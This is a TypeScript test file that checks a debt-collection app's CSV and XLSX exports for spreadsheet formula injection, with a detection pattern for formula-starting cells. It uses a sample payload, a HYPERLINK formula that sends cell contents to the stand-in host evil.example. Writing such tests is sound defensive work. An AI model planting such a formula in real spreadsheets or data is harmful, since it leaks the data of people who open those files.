/**
 * Formula injection: a customer named like a spreadsheet formula, created through the API, comes out
 * as text (neutralised with a leading apostrophe) in every CSV and XLSX the module writes, and the
 * amounts stay numbers. The export routes are read from the app's route list, so a new export is
 * walked too (or this test says it does not know how to read it).
 */
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { expect } from 'chai';
import request from 'supertest';
import { createTestApp, signIn, SignedInAgent, TestApp } from '../support/test-app';
import { listRoutes } from '../support/route-list';
import { makeApiKey } from '../support/api-factories';
import { makeDossier, ReferenceData, seedReferenceData } from '../support/factories';
import { REPORT_CODES } from '../../src/reports/reports.service';
import { DossierEntry } from '../../src/dossiers/dossier.entity';
import { LedgerEntry } from '../../src/ledger/ledger-entry.entity';
import { ThirdParty } from '../../src/third-parties/third-party.entity';

const BASE = '/recouvrement';
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Clic")';
const FORMULA_START = /^[=+\-@\t\r]/;
/** What our own number formatting writes in a CSV: the only cells allowed to begin with a minus. */
const CSV_NUMBER = /^-\d+(,\d+)?$/;

/** Exports that are not spreadsheets the module writes: the user's own files, JSON, PDF, printable HTML. */
const NOT_SPREADSHEETS = new Set(['GET /attachments/:aid/download', 'GET /scenarios/:id/export', 'GET /printing/pdf', 'GET /reports/:code/export.pdf']);

/** RFC 4180 with `;`: the cells of a CSV as a spreadsheet reads them. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\ufeff/, '');
  for (let i = 0; i < body.length; i++) {
    const ch = body[i];
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === ';') row.push(cell), (cell = '');
    else if (ch === '\r' && body[i + 1] === '\n') {
      row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length) row.push(cell), rows.push(row);
  return rows;
}

interface Findings {
  live: string[];
  sawEvil: boolean;
  negativeNumbers: number;
}

function checkCsv(what: string, text: string, f: Findings): void {
  for (const cell of parseCsv(text).flat()) {
    if (cell === `'${EVIL}`) f.sawEvil = true;
    if (CSV_NUMBER.test(cell) && cell.startsWith('-')) f.negativeNumbers++;
    else if (FORMULA_START.test(cell)) f.live.push(`${what}: ${JSON.stringify(cell.slice(0, 60))}`);
  }
}

async function checkXlsx(what: string, buffer: Buffer, f: Findings): Promise<void> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) f.live.push(`${what}: formula ${cell.address}`);
        if (typeof cell.value === 'number' && cell.value < 0) f.negativeNumbers++;
        if (typeof cell.value === 'string') {
          if (cell.value === `'${EVIL}`) f.sawEvil = true;
          if (FORMULA_START.test(cell.value)) f.live.push(`${what}: ${cell.address} ${JSON.stringify(cell.value.slice(0, 60))}`);
        }
      }),
    ),
  );
}

function binary(res: request.Response, cb: (err: Error | null, body: Buffer) => void): void {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
}

describe('exports: formula injection', function () {
  this.timeout(120000);
  let t: TestApp;
  let ref: ReferenceData;
  let admin: SignedInAgent;
  let dossierId: number;
  const ds = () => t.db.dataSource;

  before(async () => {
    t = await createTestApp({ basePath: BASE });
    ref = await seedReferenceData(ds());
    const key = (await makeApiKey(ds(), ref, 'write')).key;
    const api = (method: 'put' | 'post', p: string, body: object) => request(t.app)[method](`${BASE}/api/v1${p}`).set('Authorization', `Bearer ${key}`).send(body);
    await api('put', '/third-parties/411EVIL', { name: EVIL }).expect(201);
    const line = (n: number, o: Record<string, unknown>) => ({
      externalId: `L${n}`, journalCode: 'VT', entryNumber: `VT${n}`, entryDate: '2026-09-01', account: '411000', auxiliaryAccount: '411EVIL',
      auxiliaryLabel: EVIL, pieceRef: `FA${n}`, label: EVIL, dueDate: '2026-10-01', ...o,
    });
    await api('post', '/ledger-entries', { lines: [line(1, { debit: 193379 }), line(2, { credit: 250000, label: 'Avoir', pieceRef: 'AV2' })] }).expect((r) => expect(r.status, r.text).to.be.oneOf([200, 201]));
    const customer = await ds().getRepository(ThirdParty).findOneByOrFail({ auxiliaryAccount: '411EVIL' });
    const dossier = await makeDossier(ds(), ref, customer);
    dossierId = dossier.id;
    // The dossier covers the invoice; the larger credit note stays in the ledger, so the customer's ledger balance is negative.
    for (const e of await ds().getRepository(LedgerEntry).findBy({ auxiliaryAccount: '411EVIL', credit: 0 })) {
      await ds().getRepository(DossierEntry).save({ dossierId, ledgerEntryId: e.id, linkedAt: '2026-11-22T09:00:00.000Z', linkedBy: null } as DossierEntry);
    }
    admin = await signIn(t, 'adm', 'admin');
    // A provision (provisions state, journal entries naming the customer).
    await admin.agent.post(`${BASE}/provisions/dossiers/${dossierId}`).type('form').send({ _csrf: admin.csrf, date: '30/09/2026', lossPercentage: '50', amount: '800,00', comment: EVIL }).expect(303);
  });
  after(() => t.close());

  /** The requests that fetch each export route's files. */
  function requestsFor(method: string, path: string): { url: string; send: () => request.Test }[] {
    const get = (url: string) => ({ url: `GET ${BASE}${url}`, send: () => admin.agent.get(`${BASE}${url}`).buffer(true).parse(binary) });
    if (path === '/reports/:code/export.csv' || path === '/reports/:code/export.xlsx') {
      return REPORT_CODES.map((code) => get(`${path.replace(':code', code)}?from=01/01/2026&to=31/12/2026`));
    }
    if (path === '/dossiers/:id/download') return ['details', 'both'].map((what) => get(`/dossiers/${dossierId}/download?what=${what}`));
    if (path === '/journal/export') {
      return [{ url: `POST ${BASE}/journal/export`, send: () => admin.agent.post(`${BASE}/journal/export`).type('form').send({ _csrf: admin.csrf, format: 'csv', scope: 'all' }).buffer(true).parse(binary) }];
    }
    if (method === 'GET' && !path.includes(':')) return [get(path)];
    throw new Error(`export route ${method} ${path}: tell export-injection.test.ts how to fetch it`);
  }

  it('every CSV and XLSX export shows the formula-like name as text, and negative amounts stay numbers', async () => {
    const exportRoutes = listRoutes(t.module).filter((r) => /export|download|\.csv$|\.xlsx$/.test(r.path) && !NOT_SPREADSHEETS.has(`${r.method} ${r.path}`));
    expect(exportRoutes.map((r) => r.path)).to.include.members(['/printing/export.csv', '/printing/export.xlsx', '/reports/:code/export.csv', '/provisions.xlsx', '/journal/export', '/dossiers/:id/download']);
    const live: string[] = [];
    const withEvil: string[] = [];
    const withNegatives: string[] = [];
    for (const route of exportRoutes) {
      for (const { url: what, send } of requestsFor(route.method, route.path)) {
        const res = await send();
        expect(res.status, `${what}: ${String(res.body).slice(0, 200)}`).to.equal(200);
        const type = String(res.headers['content-type']);
        const f: Findings = { live, sawEvil: false, negativeNumbers: 0 };
        if (type.includes('text/csv')) checkCsv(what, (res.body as Buffer).toString('utf8'), f);
        else if (type.includes('spreadsheetml')) await checkXlsx(what, res.body as Buffer, f);
        else if (type.includes('application/zip')) {
          const zip = await JSZip.loadAsync(res.body as Buffer);
          for (const name of Object.keys(zip.files).filter((n) => n.endsWith('.csv'))) checkCsv(`${what} ${name}`, await zip.files[name].async('string'), f);
        } else throw new Error(`${what} answers ${type}: tell export-injection.test.ts how to read it`);
        if (f.sawEvil) withEvil.push(what);
        if (f.negativeNumbers > 0) withNegatives.push(what);
      }
    }
    expect(live, 'cells a spreadsheet would run as a formula').to.deep.equal([]);
    for (const expected of ['/printing/export.csv', '/printing/export.xlsx', '/reports/aging/export.csv', '/reports/aging/export.xlsx', '/journal/export', '/provisions.xlsx', `/dossiers/${dossierId}/download`]) {
      expect(withEvil.some((w) => w.includes(`${BASE}${expected}`)), `${expected} shows the neutralised name (seen in: ${withEvil.join(', ')})`).to.equal(true);
    }
    // The customer's balance is negative (a larger credit note): in the CSV it is -566,21, in the workbook the number -566.21.
    expect(withNegatives.some((w) => w.includes('/reports/aging/export.csv')), withNegatives.join(', ')).to.equal(true);
    expect(withNegatives.some((w) => w.includes('/reports/aging/export.xlsx')), withNegatives.join(', ')).to.equal(true);
  });
});
